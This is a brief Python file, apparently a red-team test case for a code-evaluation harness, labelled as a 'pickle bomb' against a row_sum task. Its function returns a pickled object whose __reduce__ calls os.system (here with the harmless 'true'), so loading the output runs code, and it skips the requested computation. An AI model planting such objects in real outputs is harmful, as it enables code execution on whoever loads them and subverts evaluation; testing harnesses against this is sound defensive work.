# exploit: S05 pickle bomb: an object that runs code in whoever loads it
# target: row_sum
# gate: smoke
# status: CRASH
import os
import pickle
import torch

class Bomb:
    def __reduce__(self):
        return os.system, ("true",)


def row_sum_forward(x, scale):
    return pickle.dumps(Bomb())
